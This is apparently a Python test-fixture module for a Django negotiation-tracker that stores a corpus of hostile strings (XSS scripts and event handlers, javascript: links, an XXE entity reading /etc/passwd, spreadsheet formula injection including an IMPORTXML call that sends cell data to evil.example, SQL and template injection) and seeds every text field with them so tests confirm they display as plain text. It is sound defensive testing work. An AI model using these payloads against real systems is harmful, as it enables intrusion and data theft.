"""Hostile strings: what a record may smuggle in, to be shown as text everywhere and run nowhere.

Each entry is plain data. Tests put them into every text field of every model and check
that pages, embeds, exports and the admin show them as characters, never as markup.
"""

MARKER = "pwned"

SCRIPT = [
    f"<script>alert('{MARKER}1')</script>",
    f"<SCRIPT SRC=//evil.example/{MARKER}.js></SCRIPT>",
    f"</script><script>alert('{MARKER}2')</script>",
    f"<scr<script>ipt>alert('{MARKER}3')</scr</script>ipt>",
    f'"><script>alert("{MARKER}4")</script>',
    f"'><script>alert(String.fromCharCode(88,83,83))</script>{MARKER}",
    f"</title><script>alert('{MARKER}5')</script>",
    f"</textarea><script>alert('{MARKER}6')</script>",
    f"<!--<script>alert('{MARKER}7')</script>-->",
    f"<script type=module>alert('{MARKER}8')</script>",
]

EVENT_HANDLERS = [
    f"<img src=x onerror=alert('{MARKER}10')>",
    f'<img src="x" onerror="alert(`{MARKER}11`)">',
    f"<body onload=alert('{MARKER}12')>",
    f"<svg onload=alert('{MARKER}13')>",
    f"<div onmouseover=\"alert('{MARKER}14')\">hover me</div>",
    f"<input autofocus onfocus=alert('{MARKER}15')>",
    f"<details open ontoggle=alert('{MARKER}16')>",
    f"<video><source onerror=\"alert('{MARKER}17')\">",
    f"<iframe srcdoc=\"<script>alert('{MARKER}18')</script>\"></iframe>",
    f"<marquee onstart=alert('{MARKER}19')>",
    f'" onmouseover="alert(\'{MARKER}20\')" x="',
    f"' onfocus='alert(1)' autofocus x='{MARKER}",
]

LINKS = [
    f"javascript:alert('{MARKER}30')",
    f"JaVaScRiPt:alert('{MARKER}31')",
    f"  javascript:alert('{MARKER}32')",
    f"java\tscript:alert('{MARKER}33')",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={MARKER}",
    f"data:text/html,<script>alert('{MARKER}34')</script>",
    f"<a href=\"javascript:alert('{MARKER}35')\">click</a>",
    f"<a href=\"data:text/html,<script>alert('{MARKER}36')</script>\">data</a>",
    f"vbscript:msgbox('{MARKER}37')",
    f"<form action=javascript:alert('{MARKER}38')><button>go</button></form>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:alert('{MARKER}39')\">",
    f'<base href="https://evil.example/{MARKER}/">',
]

SVG = [
    f"<svg><script>alert('{MARKER}40')</script></svg>",
    f"<svg><a xlink:href=\"javascript:alert('{MARKER}41')\"><text x=0 y=20>x</text></a></svg>",
    f"<svg><animate onbegin=alert('{MARKER}42') attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe src=javascript:alert('{MARKER}43')></foreignObject></svg>",
    f"]]><script>alert('{MARKER}44')</script><![CDATA[",
    f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;{MARKER}',
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/>{MARKER}",
]

PLOTLY_LABELS = [
    f'<a href="https://evil.example/{MARKER}" target="_top">read more</a>',
    f'<a href="javascript:alert(\'{MARKER}50\')" target="_blank">x</a>',
    f'<a href="https://evil.example/{MARKER}" target="_parent">parent</a>',
    f"<b>bold</b><i>italic</i><br>{MARKER}<sup>up</sup><sub>down</sub>",
    f'<span style="font-size:400px;color:red">{MARKER}</span>',
    f"<em>%{{x}}</em> %{{y}} %{{customdata[0]}} %{{text}} {MARKER}",
    f"&lt;script&gt;alert('{MARKER}51')&lt;/script&gt;",
    f"&#60;img src=x onerror=alert('{MARKER}52')&#62;",
]

FORMULAS = [
    f'=HYPERLINK("https://evil.example/{MARKER}","Click for source")',
    f"=cmd|' /C calc'!A0 {MARKER}",
    f"+1+cmd|' /C calc'!A0 {MARKER}",
    f"-2+3+cmd|' /C calc'!A0 {MARKER}",
    f"@SUM(1+1)*cmd|' /C calc'!A0 {MARKER}",
    f"\t=1+1 {MARKER}",
    f"\r=1+1 {MARKER}",
    f'=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a") {MARKER}',
]

TEMPLATES_AND_FORMATS = [
    f"{{{{ settings.SECRET_KEY }}}} {{% debug %}} {MARKER}",
    f"${{7*7}} #{{7*7}} <%= 7*7 %> {MARKER}",
    f"%s%s%s%n %x {{0}} {MARKER}",
    f"'; DROP TABLE tracker_negotiation; -- {MARKER}",
    f'" OR 1=1 -- {MARKER}',
    f'{{"json": "inject", "__proto__": {{"polluted": true}}}} {MARKER}',
    f"</style><style>body{{display:none}}</style>{MARKER}",
    f"expression(alert('{MARKER}60'))",
    f"\\u003cscript\\u003ealert('{MARKER}61')\\u003c/script\\u003e",
    f"\\\"}}]);alert('{MARKER}62');//",
]

UNICODE = [
    f"\u202eevil.exe\u202c.txt {MARKER}",
    f"\u202dLTR override\u202c and \u2066isolate\u2069 {MARKER}",
    f"zero\u200bwidth\u200cjoin\u200d\ufeff {MARKER}",
    f"control \x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b[0m {MARKER}",
    f"line\u2028separator\u2029paragraph {MARKER}",
    f"제11차 한미 방위비분담 특별협정 협상 {MARKER}",
    f"방위비 <script>alert('{MARKER}70')</script> 분담금",
    f"👩🏽‍⚖️🇰🇷🇺🇸 negotiation 🤝💵 {MARKER}",
    f"Z̸̡̛a̷l̶g̵o̴ ̷t̸e̶x̵t̴ {MARKER}",
    f"עברית ومعها العربية mixed RTL {MARKER}",
    f"\U0001f4a9\U0001d54f\U00010348 astral {MARKER}",
    f"tab\tnew\nline\r\ncrlf {MARKER}",
    f"nbsp\u00a0and\u3000ideographic space {MARKER}",
]

LONG = [
    "A" * 10_000,
    (f"<script>alert('{MARKER}80')</script>" * 300)[:10_000],
    ("한국어 " * 2_000) + MARKER,
]

CORPUS = (
    SCRIPT
    + EVENT_HANDLERS
    + LINKS
    + SVG
    + PLOTLY_LABELS
    + FORMULAS
    + TEMPLATES_AND_FORMATS
    + UNICODE
    + LONG
)

# Strings that fit a short column (max_length 100 to 300) and hold no control characters,
# for names and other single-line fields.
SHORT = [s for s in CORPUS if len(s) <= 100 and s.isprintable()]

# Tags and attributes that must never appear in a page as DOM built from a record.
FORBIDDEN_ATTRIBUTES = [
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onstart",
    "onbegin",
    "srcdoc",
]


def _fits(text, max_length):
    return max_length is None or len(text) <= max_length


class _Strings:
    """Hands out corpus strings in order, each once before any repeats, fitting a column."""

    def __init__(self, corpus):
        self.waiting = list(corpus)
        self.corpus = list(corpus)
        self.turn = 0

    def take(self, max_length=None, printable=False):
        for index, text in enumerate(self.waiting):
            if _fits(text, max_length) and (text.isprintable() or not printable):
                return self.waiting.pop(index)
        fitting = [
            t for t in self.corpus if _fits(t, max_length) and (t.isprintable() or not printable)
        ]
        self.turn += 1
        return fitting[self.turn % len(fitting)]

    def unique(self, max_length, used):
        """A string not yet in `used` (for unique columns), marked with a number if needed."""
        text = self.take(max_length, printable=True)
        while text in used:
            text = f"{len(used)} {text}"[:max_length]
        used.add(text)
        return text

    @property
    def done(self):
        return not self.waiting


def hostile_negotiation(slug="hostile", *, corpus=CORPUS):
    """A published negotiation whose every text field of every model holds corpus strings.

    The corpus is spread over the fields so that each string appears at least once; lanes
    get as many records as that takes. One-line columns of limited length (publisher, unit,
    story, issue title...) take printable strings only, so a document exported from this
    negotiation imports again. Returns the negotiation.
    """
    from tracker import models

    strings = _Strings(corpus)
    names = set()

    def cap(model, field):
        return model._meta.get_field(field).max_length

    negotiation = models.Negotiation.objects.create(
        slug=slug, title=strings.take(), summary=strings.take(), is_published=True
    )
    number = 0
    while number < 3 or not strings.done:
        number += 1
        party_names = [strings.unique(cap(models.Party, "name"), names) for _ in range(2)]
        # Aliases are not exported: they repeat the name, so no corpus string is only there.
        parties = [models.Party.objects.create(name=name, aliases=name) for name in party_names]
        negotiation.parties.add(*parties)
        source = models.Source.objects.create(
            url=f"https://news.example.org/{number}/\"><script>alert('{MARKER}')</script>",
            title=strings.take(),
            publisher=strings.take(cap(models.Source, "publisher"), printable=True),
            author=strings.take(cap(models.Source, "author"), printable=True),
            published="2019-09",
            note=strings.take(),
            story=strings.take(cap(models.Source, "story"), printable=True),
            version=number,
            version_note=strings.take(),
        )
        untitled = models.Source.objects.create(title=strings.take(), published="2020")
        person = models.Person.objects.create(
            name=strings.unique(cap(models.Person, "name"), names),
            title=strings.take(),
            party=parties[0],
        )
        person.sources.add(source)
        negotiation.people.add(person)
        round_ = models.Round.objects.create(
            negotiation=negotiation,
            sequence=number,
            number=number,
            start=f"2019-{number % 12 + 1:02d}",
            end=f"2019-{number % 12 + 1:02d}-28" if number % 2 else None,
            location=strings.take(),
            note=strings.take(),
        )
        round_.sources.add(source, untitled)
        models.LeadNegotiator.objects.create(round=round_, party=parties[0], person=person)
        position = models.Position.objects.create(
            negotiation=negotiation,
            issue=models.Issue.objects.create(
                negotiation=negotiation,
                slug=f"issue-{number}",
                order=number,
                title=strings.take(cap(models.Issue, "title"), printable=True),
                description=strings.take(),
            ),
            sequence=number,
            party=parties[number % 2],
            kind=models.Position.Kind.DEMAND if number % 2 else models.Position.Kind.BASELINE,
            date=f"2019-{number % 12 + 1:02d}",
            amount=1_000_000 * number,
            currency="USD",
            unit=strings.take(cap(models.Position, "unit"), printable=True),
            period=strings.take(),
            note=strings.take(),
        )
        position.sources.add(source)
        event = models.Event.objects.create(
            negotiation=negotiation,
            sequence=number,
            date=f"2020-{number % 12 + 1:02d}-0{number % 9 + 1}",
            title=strings.take(),
            note=strings.take(),
        )
        event.sources.add(untitled)
        statement = models.Statement.objects.create(
            negotiation=negotiation,
            sequence=number,
            date=f"2020-0{number % 9 + 1}",
            speaker=person,
            speaker_title=strings.take(),
            party=parties[0],
            quote=strings.take(),
            context=strings.take(),
            note=strings.take(),
        )
        statement.sources.add(source)
    return negotiation


def text_fields():
    """(model, field name) for every free-text field of the tracker's record models."""
    from django.db import models as django_models

    from tracker import models
    from tracker.fields import PartialDateField

    found = []
    for model in [
        models.Party,
        models.Source,
        models.Person,
        models.Negotiation,
        models.Issue,
        models.Round,
        models.Position,
        models.Event,
        models.Statement,
    ]:
        for field in model._meta.concrete_fields:
            if (
                isinstance(field, django_models.CharField | django_models.TextField)
                and not isinstance(field, PartialDateField | django_models.URLField)
                and not field.choices
                and field.name not in {"slug", "currency"}
            ):
                found.append((model, field.name))
    return found
